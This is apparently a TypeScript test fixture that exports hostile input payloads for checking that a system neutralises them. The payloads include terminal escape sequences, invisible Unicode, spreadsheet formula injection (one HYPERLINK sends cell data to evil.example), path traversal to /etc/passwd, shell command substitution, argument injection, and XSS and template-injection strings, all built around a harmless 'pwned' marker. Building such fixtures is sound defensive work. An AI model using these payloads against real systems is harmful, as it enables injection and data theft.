import { visibleText } from '../../src/core/visible-text.ts';
import { PAYLOADS as REPORT_PAYLOADS } from '../reports/hostile.ts';

/**
 * The word that every payload tries to make happen: a variable `pwned` in a page, a command `pwned` in a shell, a file
 * `pwned` on disk. None of them may ever exist.
 */
export const DEED = 'pwned';

/** The address that every payload with a link tries to reach. */
export const ADDRESS = 'evil.example';

const CONTROLS: readonly string[] = [
  '\u001b[31mred\u001b[0m\u001b[2K\u001b[1A',
  '\u001b]0;title\u0007\u001b]52;c;cHduZWQ=\u0007\u001b]1337;File=:AA==\u0007',
  '\u001bP$q"p\u001b\\\u001b_apc\u001b\\\u001b^pm\u001b\\\u001bc',
  '\u009b31m\u009d0;title\u009c\u0090q\u009c\u0085\u008d',
  '\b\b\b\u007f\r\roverwritten\u000b\u000c',
  'one\nVERDICT exercised\n::set-output name=x::y\n::error::z',
  '\u0000nul\u0000',
];

const INVISIBLE: readonly string[] = [
  'role\u202e\u2066tnemyolped\u2069\u202c',
  '\u061c\u200e\u200f\u202a\u202b\u202d',
  'a\u200bd\u200cm\u200di\u2060n\ufeff\u180e\u034f',
  '\u{e0061}\u{e0064}\ufe0f\u3164\uffa0\u115f',
  '\ud800 \udc00 \udbff',
  'Z\u0351\u036b\u0343\u036a\u0302A\u0324\u0353L\u033c\u0348'.repeat(8),
];

const FORMULAS: readonly string[] = ['=HYPERLINK("https://evil.example/"&A1,"x")', '+cmd|\'/C pwned\'!A0', '@SUM(1+1)*cmd|\'pwned\'!A0', '-2+3+cmd|\'pwned\'!A0', '\t=1+1', '\r=1+1', '"=1","=2"\n"=3"', ';=1;', '|=1|'];

const PATHS: readonly string[] = ['../../../../../../tmp/pwned', '/etc/passwd', '..\\..\\pwned', 'C:\\pwned', 'file:///etc/passwd', '~/pwned', 'CON', 'nul.json', 'aux', 'COM1', 'a/../../pwned', '%2e%2e%2fpwned', '.', '..', '.git/hooks/post-checkout', '-rf', '--upload-pack=pwned', 'a'.repeat(240)];

const SHELL: readonly string[] = ['$(pwned)', '`pwned`', "';pwned;'", '";pwned;"', '$(pwned', "'$(pwned)'", '\\$(pwned)\\', '|pwned&pwned&&pwned||pwned', '>pwned<pwned', '${IFS}pwned', "$'\\x70wned'", '!pwned!! !$', '#pwned', '\n pwned\n', '\'"\'"\'', '*?[a]~{a,b}'];

const TEMPLATES: readonly string[] = [
  '{{#with (lookup this "constructor")}}{{constructor "window.pwned=1"}}{{/with}}',
  '{{{{raw}}}} {{{{/raw}}}} {{!-- c --}} {{> @partial-block}} {{log "pwned"}}',
  '<%- pwned %> #{pwned} ${pwned} {% pwned %} [[pwned]] ((pwned))',
  '%s %n %x %1$s %%',
  '__proto__',
  'constructor',
  '</script><script>window.pwned=1</script>',
  '<!--<script>-->window.pwned=1',
  '<math><mtext></p><style><img src=x onerror=window.pwned=1></style>',
  '<a href="javascript:window.pwned=1" autofocus onfocus=window.pwned=1 tabindex=1>x</a>',
  '<meta http-equiv=refresh content="0;url=https://evil.example"><base href="https://evil.example/"><link rel=prefetch href="https://evil.example">',
  '<details open ontoggle=window.pwned=1><style>@import"https://evil.example"</style>',
];

const MARKDOWN: readonly string[] = [
  '[x]: javascript:pwned\n\n[x]\n\n<https://evil.example>',
  '```\n~~~\n````\n<details>\n\n- [ ] task\n',
  '~~~diff\n-a\n+b\n~~~',
  '</details></table></code></pre>|\n|---|\n|x|',
  'Fixes #1, closes octocat/hello#2, /cc @everyone, /approve\n/merge',
  '\\`code\\` \\| \\\\',
  '&#x3C;img src=x&#x3E; &lt; &amp;lt;',
  'diff --git a/x b/x\n--- a/x\n+++ /dev/null\n@@ -1 +0,0 @@\n-x',
];

/** What somebody may write wherever a system lets text through, for every medium that the text may come to. */
export const PAYLOADS: readonly string[] = [
  ...new Set([...REPORT_PAYLOADS, ...CONTROLS, ...INVISIBLE, ...FORMULAS, ...PATHS, ...SHELL, ...TEMPLATES, ...MARKDOWN, 'x'.repeat(4_000), `${'words and '.repeat(300)}end`]),
];

/** The payloads by a title that a terminal can print. */
export const TITLED = PAYLOADS.map((payload, index) => ({ title: `${index + 1} ${visibleText(payload).slice(0, 60)}`, payload }));
